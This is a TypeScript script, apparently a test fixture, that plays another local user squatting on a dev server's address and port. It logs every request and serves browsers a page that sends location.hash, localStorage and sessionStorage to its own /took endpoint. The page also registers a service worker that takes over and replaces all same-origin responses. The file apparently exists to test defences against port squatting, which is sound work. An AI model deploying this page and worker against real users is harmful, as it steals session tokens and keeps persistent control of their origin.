/**
 * A program of another user of this machine that listens where our server did or will: `node squatter.ts ADDRESS PORT`. It
 * writes a line when it listens, or why it does not, and one for every request that it gets, as JSON. To a browser it answers
 * with a page that takes what it finds and registers a service worker.
 */
import { createServer } from 'node:http';

const [address = '', port = ''] = process.argv.slice(2);

const PAGE = `<!doctype html><title>squatter</title><h1>squatter</h1><script>
navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'settled'; });
fetch('/took?' + encodeURIComponent(location.hash + JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage })));
localStorage.setItem('left', 'by the squatter');
</script>`;

const WORKER = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  if (new URL(event.request.url).origin !== self.location.origin) return;
  event.respondWith(new Response('<title>squatted</title><h1>squatted</h1>', { headers: { 'content-type': 'text/html' } }));
});
`;

const say = (value: unknown) => process.stdout.write(`${JSON.stringify(value)}\n`);
const server = createServer(async (request, response) => {
  const body = Buffer.concat(await request.toArray()).toString();
  say({ method: request.method, url: request.url, headers: request.headers, body });
  const isWorker = request.url === '/worker.js';
  response.setHeader('content-type', isWorker ? 'text/javascript' : 'text/html');
  response.end(isWorker ? WORKER : PAGE);
});
server.on('error', (error: NodeJS.ErrnoException) => {
  say({ refused: error.code });
  process.exit(0);
});
server.listen({ host: address, port: Number(port) }, () => say({ listens: true }));
